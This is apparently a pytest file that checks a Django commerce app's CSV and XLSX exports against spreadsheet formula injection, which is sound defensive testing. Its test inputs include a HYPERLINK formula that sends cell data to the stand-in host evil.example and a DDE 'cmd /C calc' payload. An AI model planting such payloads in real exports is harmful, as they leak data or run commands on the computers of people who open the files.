"""Every export read back with text a spreadsheet would run (a title, a SKU, a store or buyer's words that
start with "=", "+" or "@"): in CSV the cell is neutralised (a leading apostrophe), in XLSX it is a string cell
holding the text, never a formula; amounts stay numbers. The rule lives in acorn/spreadsheets.py and
tests/test_architecture.py keeps every export on it."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from acorn.tenancy.models import Tenant
from acorn.tenancy.scoping import tenant_scope
from inventory import services as inventory_services
from orders.services import order_upsert_page
from tests.factories import StoreFactory
from tests.finance.console_data import import_statement, make_order, statement_lines
from tests.inventory.test_mappings import EXPORT_URL as MAPPING_EXPORT_URL
from tests.inventory.test_mappings import _catalogue
from tests.orders import test_fulfilment as fulfilment_data
from tests.orders.test_order_money import _order as money_order
from tests.refunds.test_console import make_refund

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1)"
MALICIOUS = (HYPERLINK, COMMAND, SUM)


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _streamed(response: Any) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _xlsx_cells(content: bytes) -> list[dict[str, Cell]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert all(cell.data_type == "s" for cell in rows[0])
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def _assert_text_cell(cell: Cell, text: str) -> None:
    # a string cell with the text as it is: openpyxl reads a formula back as data_type "f"
    assert cell.data_type == "s" and cell.value == text


@pytest.mark.parametrize("text", MALICIOUS)
def test_the_order_exports(owner_client: Client, tenant: Tenant, text: str) -> None:
    # given an order whose channel sent a title and a SKU that look like formulas
    order = money_order("WC-4001")
    order = replace(order, lines=(replace(order.lines[0], title=text, sku=text),))
    with tenant_scope(tenant):
        order_upsert_page(store=StoreFactory(tenant=tenant, platform="woocommerce", marketplaces=[]), orders=[order])
    # when / then: the CSV
    rows = _csv_rows(_streamed(owner_client.get("/app/orders/export.csv")))
    line = next(row for row in rows if row["Row"] == "Line")
    assert line["Title"] == "'" + text and line["Channel SKU"] == "'" + text
    assert line["Row total"] == "29.34"  # a number, not escaped
    # and the workbook
    cells = next(
        row for row in _xlsx_cells(_streamed(owner_client.get("/app/orders/export.xlsx"))) if row["Title"].value
    )
    _assert_text_cell(cells["Title"], text)
    _assert_text_cell(cells["Channel SKU"], text)
    assert cells["Row total"].data_type == "n"


@pytest.mark.parametrize("text", MALICIOUS)
def test_the_refund_exports(owner_client: Client, tenant: Tenant, text: str) -> None:
    # given a refund whose buyer wrote a comment that looks like a formula, on a SKU that does too
    with tenant_scope(tenant):
        make_refund(StoreFactory(tenant=tenant), 1, customer_comment=text, lines=[(text, 1)])
    # when / then
    [row] = _csv_rows(_streamed(owner_client.get("/app/refunds/export.csv")))
    assert row["Customer comment"] == "'" + text and row["Channel SKU"] == "'" + text
    assert row["Refund: item price"] == "-10.0000"
    [cells] = _xlsx_cells(_streamed(owner_client.get("/app/refunds/export.xlsx")))
    _assert_text_cell(cells["Customer comment"], text)
    _assert_text_cell(cells["Channel SKU"], text)
    assert cells["Refund: item price"].data_type == "n"


@pytest.mark.parametrize("text", MALICIOUS)
def test_the_fulfilment_csv(owner_client: Client, tenant: Tenant, text: str) -> None:
    # given a waiting order of a store named like a formula, whose line title looks like one too
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, name=text)
        fulfilment_data._stock(tenant)
        target = fulfilment_data._target(tenant, "Overseas CSV", kind="csv")
        fulfilment_data._route(tenant, target)
        order = fulfilment_data._order(1)
        order = replace(order, lines=(replace(order.lines[0], title=text),))
        order_upsert_page(store=store, orders=[order])
    # when
    response = owner_client.post(reverse("orders:fulfilment-csv-new", args=[target.pk]))
    # then: one byte-order mark, the cells neutralised, the quantity a number
    assert response.status_code == 200 and response.content.count("\ufeff".encode()) == 1
    [row] = _csv_rows(response.content)
    assert row["store"] == "'" + text and row["title"] == "'" + text
    assert (row["sku"], row["quantity"]) == ("SKU-1", "1")


@pytest.mark.parametrize("text", MALICIOUS)
def test_the_settlement_line_exports(owner_client: Client, tenant: Tenant, text: str) -> None:
    # given a statement whose unknown fee the vendor's file names like a formula
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, name="Amazon NA")
        make_order(store, "111-1", "25.00", shipping="4.99")
        settlement = import_statement(store, lines=statement_lines(unknown_description=text))
    # when / then
    csv_url = reverse("finance:settlement-export", args=[settlement.pk, "csv"])
    rows = _csv_rows(_streamed(owner_client.get(csv_url)))
    assert rows[-1]["Description"] == "'" + text and rows[-1]["Amount"] == "-0.30"
    xlsx_url = reverse("finance:settlement-export", args=[settlement.pk, "xlsx"])
    cells = _xlsx_cells(_streamed(owner_client.get(xlsx_url)))[-1]
    _assert_text_cell(cells["Description"], text)
    assert cells["Amount"].data_type == "n"


@pytest.mark.parametrize("text", MALICIOUS)
def test_the_mapping_export(owner_client: Client, tenant: Tenant, text: str) -> None:
    # given a mapping whose channel SKU looks like a formula
    store, _mug, lid = _catalogue(tenant)
    with tenant_scope(tenant):
        inventory_services.mapping_create(store=store, product=lid, channel_sku=text)
    # when / then
    [row] = _csv_rows(_streamed(owner_client.get(MAPPING_EXPORT_URL)))
    assert row["channel_sku"] == "'" + text and row["master_sku"] == "LID-1"
